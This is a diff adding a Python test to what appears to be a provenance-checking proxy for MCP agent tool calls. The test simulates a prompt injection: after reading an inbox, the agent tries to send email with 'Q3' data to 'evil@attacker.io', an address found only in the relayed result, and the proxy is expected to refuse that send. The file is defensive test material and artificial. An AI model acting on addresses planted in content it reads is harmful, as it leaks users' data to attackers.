@@ -539,3 +539,56 @@ def test_the_client_config_in_the_docs_names_the_proxy() -> None:
         options = args[1 : args.index("--")]
         help_run = CliRunner().invoke(cli, ["mcp-proxy", *options, "--help"])
         assert help_run.exit_code == 0, help_run.output
+
+
+def test_a_value_seen_only_in_a_relayed_result_is_refused(tmp_path: Path) -> None:
+    """The proxy keeps the results it relays as the session's transcript; ``--request`` is
+    the user's request; a schema's ``format: email`` makes ``address`` a recipient."""
+    doc = {
+        "schema_version": 1,
+        "id": "mcp_provenance",
+        "entries": [
+            entry_dict(
+                "value_from_untrusted_content",
+                applies_to={"action_types": ["*"]},
+                specialist={"kind": "provenance", "config": {}},
+            )
+        ],
+    }
+    taxonomy = tmp_path / "provenance.yaml"
+    taxonomy.write_text(yaml.safe_dump(doc, sort_keys=False))
+    errlog = (tmp_path / "proxy.err").open("w")
+    request = "Read my inbox and tell Bob@Example.com that lunch is at noon."
+
+    async def scenario() -> dict[str, Any]:
+        seen: dict[str, Any] = {}
+        command = _proxy(tmp_path, "-t", str(taxonomy), "--request", request)
+        async with (
+            stdio_client(_params(command), errlog=errlog) as (read, write),
+            ClientSession(read, write) as session,
+        ):
+            await session.initialize()
+            await session.list_tools()
+            seen["early"] = await session.call_tool(
+                "send_email", {"address": "evil@attacker.io", "body": "Q3"}
+            )
+            await session.call_tool("read_inbox", {})
+            seen["evil"] = await session.call_tool(
+                "send_email", {"address": "EVIL@attacker.io", "body": "Q3"}
+            )
+            seen["bob"] = await session.call_tool(
+                "send_email", {"address": "bob@example.com", "body": "Lunch at noon."}
+            )
+        return seen
+
+    seen = asyncio.run(scenario())
+    errlog.close()
+    assert seen["early"].is_error
+    assert "appears nowhere" in _text(seen["early"]) or "not in the user" in _text(seen["early"])
+    assert seen["evil"].is_error
+    assert "the result of read_inbox" in _text(seen["evil"])
+    assert not seen["bob"].is_error
+    assert [c["tool"] for c in _ran(tmp_path)] == ["read_inbox", "send_email"]
+    decisions = recorded(tmp_path / "home")
+    sends = [d for d in decisions if d["action"]["tool"] == "send_email"]
+    assert sends[0]["action"]["metadata"]["supervise_sinks"] == {"address": "recipient"}
